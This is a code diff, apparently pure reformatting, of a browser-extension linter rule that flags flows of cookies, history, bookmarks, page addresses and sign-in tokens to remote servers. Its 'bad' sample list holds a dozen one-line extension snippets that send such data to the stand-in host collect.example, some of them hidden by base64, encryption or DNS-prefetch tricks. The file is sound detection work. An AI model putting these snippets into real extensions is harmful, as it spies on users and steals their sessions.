@@ -9,7 +9,15 @@ import { reachOfScope } from '../permissions/account-scope-broad.ts';
 import { defineRule } from '../../rule.ts';
 
 const SEVERITY: Partial<Record<SourceKind, Severity>> = {
-  cookies: 'high', history: 'high', bookmarks: 'high', 'browsing-data': 'medium', downloads: 'medium', management: 'medium', tabs: 'medium', navigation: 'medium', 'page-address': 'medium',
+  cookies: 'high',
+  history: 'high',
+  bookmarks: 'high',
+  'browsing-data': 'medium',
+  downloads: 'medium',
+  management: 'medium',
+  tabs: 'medium',
+  navigation: 'medium',
+  'page-address': 'medium',
 };
 
 /** Servers of who gave the token out. */
@@ -20,12 +28,24 @@ function weigh(flow: Flow, isBroad: boolean): Weight | undefined {
   // Signing in at one's own server by such a token is common; with it the server can do whatever it was given for.
   const isToken = source.kind === 'identity' && source.label === 'a sign-in token';
   const severity = isToken ? (isBroad ? 'high' : 'low') : SEVERITY[source.kind];
-  if (sink.kind !== 'network' || severity === undefined || staysHere(sink.to) || (isToken && ISSUER.test(sink.to ?? ''))) return undefined;
+  if (
+    sink.kind !== 'network' ||
+    severity === undefined ||
+    staysHere(sink.to) ||
+    (isToken && ISSUER.test(sink.to ?? ''))
+  )
+    return undefined;
   // What a person asks for in the popup is not done behind their back.
-  const asked = (unit.roles.has('popup') && !unit.roles.has('background')) || (source.unit.roles.has('popup') && !source.unit.roles.has('background'));
+  const asked =
+    (unit.roles.has('popup') && !unit.roles.has('background')) ||
+    (source.unit.roles.has('popup') && !source.unit.roles.has('background'));
   const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
   const mild = asked && severity !== 'high' ? 'low' : asked ? milder(severity) : severity;
-  return { severity: flow.checked ? milder(mild) : mild, confidence: flow.stored || !known ? 'medium' : 'high', message: sentence(flow, known ? sink.to : undefined) };
+  return {
+    severity: flow.checked ? milder(mild) : mild,
+    confidence: flow.stored || !known ? 'medium' : 'high',
+    message: sentence(flow, known ? sink.to : undefined),
+  };
 }
 
 export default defineRule({
@@ -37,36 +57,98 @@ export default defineRule({
   applies: 'extension',
   cwe: 'CWE-359',
   why: 'Cookies, history, bookmarks or addresses of visited pages leave the browser. They tell what a person does, and cookies let others sign in as them.',
-  remedy: 'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
+  remedy:
+    'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
   check: (facts) => {
-    const isBroad = manifestOf(facts)?.manifest.oauthScopes.some(({ scope }) => reachOfScope(scope) !== undefined) === true;
+    const isBroad =
+      manifestOf(facts)?.manifest.oauthScopes.some(({ scope }) => reachOfScope(scope) !== undefined) === true;
     return hitsOfFlows(facts.whole(flowsOf).flows, (flow) => weigh(flow, isBroad));
   },
   examples: {
     bad: [
-      sample({ background: 'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });' }),
-      sample({ background: 'chrome.tabs.onUpdated.addListener((id, info, tab) => { navigator.sendBeacon("https://collect.example/v", tab.url); });' }),
-      sample({ background: 'chrome.history.search({ text: "", maxResults: 1000 }).then(upload); async function upload(items) { const body = new FormData(); body.append("h", JSON.stringify(items)); await fetch("https://collect.example/h", { method: "POST", body }); }' }),
-      sample({ background: 'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });' }),
-      sample({ background: 'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);' }),
+      sample({
+        background:
+          'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });',
+      }),
+      sample({
+        background:
+          'chrome.tabs.onUpdated.addListener((id, info, tab) => { navigator.sendBeacon("https://collect.example/v", tab.url); });',
+      }),
+      sample({
+        background:
+          'chrome.history.search({ text: "", maxResults: 1000 }).then(upload); async function upload(items) { const body = new FormData(); body.append("h", JSON.stringify(items)); await fetch("https://collect.example/h", { method: "POST", body }); }',
+      }),
+      sample({
+        background:
+          'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });',
+      }),
+      sample({
+        background:
+          'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);',
+      }),
       sample({ content: 'new Image().src = "https://collect.example/p.gif?u=" + encodeURIComponent(location.href);' }),
-      sample({ background: 'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));' }),
-      sample({ background: 'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });' }),
-      sample({ content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });', background: 'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });' }),
-      sample({ manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } }, background: 'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });' }),
-      sample({ content: 'chrome.runtime.sendMessage({ t: "seen" });', background: 'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });' }),
-      sample({ content: 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(location.href) + ".collect.example"; document.head.append(l);' }),
+      sample({
+        background:
+          'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));',
+      }),
+      sample({
+        background:
+          'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });',
+      }),
+      sample({
+        content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });',
+        background:
+          'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });',
+      }),
+      sample({
+        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
+        background:
+          'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });',
+      }),
+      sample({
+        content: 'chrome.runtime.sendMessage({ t: "seen" });',
+        background:
+          'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });',
+      }),
+      sample({
+        content:
+          'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(location.href) + ".collect.example"; document.head.append(l);',
+      }),
     ],
     good: [
-      sample({ manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } }, background: 'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });' }),
-      sample({ background: 'chrome.runtime.onMessage.addListener((m, sender) => { if (sender.tab.url.startsWith("https://app.example/")) fetch("https://api.example/seen"); });' }),
-      sample({ content: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = chrome.runtime.getURL("skin.css") + "?" + location.href; document.head.append(l);' }),
-      sample({ background: 'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });' }),
-      sample({ background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });' }),
-      sample({ background: 'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });' }),
+      sample({
+        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
+        background:
+          'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });',
+      }),
+      sample({
+        background:
+          'chrome.runtime.onMessage.addListener((m, sender) => { if (sender.tab.url.startsWith("https://app.example/")) fetch("https://api.example/seen"); });',
+      }),
+      sample({
+        content:
+          'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = chrome.runtime.getURL("skin.css") + "?" + location.href; document.head.append(l);',
+      }),
+      sample({
+        background:
+          'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });',
+      }),
+      sample({
+        background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });',
+      }),
+      sample({
+        background:
+          'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });',
+      }),
       sample({ background: 'chrome.history.search({ text: "" }, (h) => chrome.storage.local.set({ h }));' }),
-      sample({ background: 'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));' }),
-      sample({ background: 'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");' }),
+      sample({
+        background:
+          'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
+      }),
+      sample({
+        background:
+          'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");',
+      }),
     ],
   },
 });
